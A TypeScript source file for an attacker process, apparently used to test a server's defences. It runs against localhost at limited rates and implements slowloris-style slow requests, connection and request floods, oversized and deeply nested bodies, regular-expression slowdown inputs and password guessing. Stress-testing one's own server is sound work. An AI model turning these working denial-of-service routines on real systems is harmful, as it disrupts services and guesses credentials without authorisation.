import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { isAttack, type AttackOptions, type Attack } from './attacks.ts';

// An attacker in a separate process: `attacker.ts KINDS OPTIONS`, both as JSON. It attacks while it is switched on. The
// rate of each attack is limited, so that the attacker itself does not occupy the machine.

const [, , kindsJson = '', optionsJson = ''] = process.argv;
const options = JSON.parse(optionsJson) as AttackOptions;

/** The parent process switches the attacks on and off by messages. */
let isOn = false;
process.on('message', (on: boolean) => {
  isOn = on;
});
process.on('disconnect', () => process.exit(0));

/** Calls `work` `fullRate * options.strength` times per second, in small bursts. */
const callAtRate = (fullRate: number, work: () => void): void => {
  const perSecond = fullRate * options.strength;
  const everyMs = Math.max(10, 1000 / perSecond);
  let due = 0;
  setInterval(() => {
    if (!isOn) return;
    due += (perSecond * everyMs) / 1000;
    for (; due >= 1; due -= 1) work();
  }, everyMs);
};

const openSocket = (): Socket => {
  const socket = connect({ port: options.port, host: '127.0.0.1', localAddress: options.localAddress });
  // The server may evict an attacker at any time.
  socket.on('error', () => undefined);
  return socket;
};

/**
 * Keeps up to `limit` connections open and replaces closed ones. Opens at most `fullRate * options.strength`
 * connections per second.
 */
const holdConnections = (limit: number, fullRate: number, work: (socket: Socket) => void): void => {
  let openCount = 0;
  callAtRate(fullRate, () => {
    if (openCount >= limit) return;
    openCount += 1;
    const socket = openSocket();
    socket.once('close', () => (openCount -= 1));
    socket.once('connect', () => work(socket));
  });
};

/** Writes `start`, then a chunk every `everyMs` milliseconds until the connection is closed. */
const writeSlowly = (socket: Socket, start: string, chunk: string, everyMs: number): void => {
  socket.write(start);
  socket.resume();
  const timer = setInterval(() => socket.write(chunk), everyMs);
  socket.once('close', () => clearInterval(timer));
};

const requestHead = (method: string, path: string, extraHeaders: readonly string[] = []): string =>
  [`${method} ${path} HTTP/1.1`, `host: ${options.host}`, ...extraHeaders, '', ''].join('\r\n');

const agent = new Agent({ keepAlive: true, maxSockets: 20, localAddress: options.localAddress });

/** Sends one complete request and discards the response. */
const call = (method: string, path: string, headers: Record<string, string>, body?: string | Buffer): void => {
  const clientRequest = request(
    { host: '127.0.0.1', port: options.port, agent, method, path, headers: { host: options.host, ...headers } },
    (response) => response.on('error', () => undefined).resume(),
  );
  clientRequest.on('error', () => undefined);
  clientRequest.end(body);
};

const JSON_HEADERS = { 'content-type': 'application/json' };
const PASSWORD_STRENGTH_PATH = '/api/v2.6/owner/password-strength';
const nearLimitText = (start: string, fill: string, end: string): string =>
  `${start}${fill.repeat(Math.floor((9_900_000 - start.length - end.length) / fill.length))}${end}`;

const startAttack: Record<Attack, () => void> = {
  'slow headers': () =>
    holdConnections(1500, 1000, (socket) =>
      writeSlowly(socket, `GET / HTTP/1.1\r\nhost: ${options.host}\r\n`, 'x-a: b\r\n', 500),
    ),
  'slow bodies': () =>
    holdConnections(1000, 1000, (socket) =>
      writeSlowly(
        socket,
        requestHead('POST', PASSWORD_STRENGTH_PATH, ['content-type: application/json', 'content-length: 60000']),
        ' ',
        500,
      ),
    ),
  'slow readers': () =>
    holdConnections(600, 600, (socket) => {
      socket.write(requestHead('GET', options.file));
      // Reads just enough to make progress, so that the server does not cut the download off.
      socket.pause();
      const timer = setInterval(() => socket.read(100), 200);
      socket.once('close', () => clearInterval(timer));
    }),
  'many connections': () => callAtRate(800, () => openSocket().resume()),
  'many requests': () => {
    const sockets = Array.from({ length: 20 }, () => openSocket().resume());
    const pipelinedRequests = requestHead('GET', '/api/v2.6/owner/sign-in-ways').repeat(20);
    callAtRate(300, () => {
      const index = Math.floor(Math.random() * sockets.length);
      if (sockets[index]?.destroyed !== false) sockets[index] = openSocket().resume();
      sockets[index].write(pipelinedRequests);
    });
  },
  'huge headers': () => callAtRate(300, () => call('GET', '/healthz', { 'x-filling': 'x'.repeat(30_000) })),
  'big bodies': () => {
    const body = nearLimitText('{"password":"', 'x', '"}');
    callAtRate(12, () => call('POST', PASSWORD_STRENGTH_PATH, JSON_HEADERS, body));
  },
  'big bodies without a token': () => {
    const body = nearLimitText('{"password":"', 'x', '"}');
    callAtRate(12, () => call('POST', '/api/v2.6/contract-data/read/a/b', JSON_HEADERS, body));
  },
  'deep bodies': () => {
    const body = '['.repeat(4_900_000) + ']'.repeat(4_900_000);
    callAtRate(12, () => call('POST', PASSWORD_STRENGTH_PATH, JSON_HEADERS, body));
  },
  'many parameters': () => {
    const query = Array.from({ length: 1600 }, (_, index) => `p${index}=`).join('&');
    callAtRate(300, () => call('GET', `/storage/x?${query}`, {}));
  },
  'slow regular expressions': () => {
    const path = `/api/v2.6/data/${'a'.repeat(1000)}${'/a'.repeat(3000)}!`;
    callAtRate(150, () => call('GET', path, {}));
    callAtRate(150, () =>
      call('POST', PASSWORD_STRENGTH_PATH, {
        'content-type': `application/${'a.'.repeat(5000)}`,
        range: `bytes=${'0'.repeat(5000)}x`,
      }),
    );
  },
  passwords: () => {
    let index = 0;
    callAtRate(100, () => {
      index += 1;
      call('GET', '/users/access_token', { username: `name${index}`, password: `guess${index}` });
    });
  },
};

for (const kind of JSON.parse(kindsJson) as string[]) {
  if (!isAttack(kind)) throw new Error(`unknown attack "${kind}"`);
  startAttack[kind]();
}
